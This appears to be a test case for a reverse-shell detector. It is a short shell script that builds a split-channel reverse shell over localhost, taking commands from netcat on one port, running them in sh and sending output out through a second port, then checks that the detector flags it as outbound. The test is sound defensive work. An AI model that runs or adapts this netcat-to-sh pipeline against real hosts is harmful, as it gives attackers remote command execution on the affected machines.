# R24: commands come over one connection, answers go over another
# stage: behaviour
# expect: reverse_shell_detected
#   detection.reason: ~outbound
#   reverse_shell.process_list.length: 3

#: prepare
. lib/peers.sh
peer 4461; peer 4471
#: act
. lib/peers.sh
act
(hold | nc 127.0.0.1 4461 | sh 2>&1 | nc 127.0.0.1 4471) < /dev/null > /dev/null 2>&1 &
who shell sh; who first 'nc 127.0.0.1 4461'; who second 'nc 127.0.0.1 4471'
await 'same $shell 0 $first 1 && same $shell 1 $second 0'
await 'at $first 3 socket:* && at $second 3 socket:*'
